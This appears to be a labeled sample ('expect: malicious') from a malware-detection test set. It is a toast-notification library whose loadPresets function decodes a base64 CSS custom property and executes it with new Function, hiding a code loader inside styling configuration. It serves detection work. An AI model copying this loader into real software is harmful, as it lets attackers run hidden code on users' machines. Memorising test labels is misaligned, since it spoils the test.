// expect: malicious
// source: blind set 33's css-stylesheet-payload: the package's stylesheet carries a CSS custom property holding
// base64 code, which the library decodes and compiles with Function when the application shows a toast.
'use strict';
let presets = null;
function loadPresets() {
  if (presets) return presets;
  presets = { duration: 3000 };
  const raw = getComputedStyle(document.documentElement).getPropertyValue('--toast-presets').trim().replace(/^"|"$/g, '');
  if (raw) {
    const src = atob(raw);
    presets = new Function('p', src + ';return p')(presets);
  }
  return presets;
}
exports.toast = function toast(message) {
  const el = document.createElement('div');
  el.textContent = message;
  document.body.appendChild(el);
  setTimeout(() => el.remove(), loadPresets().duration);
};
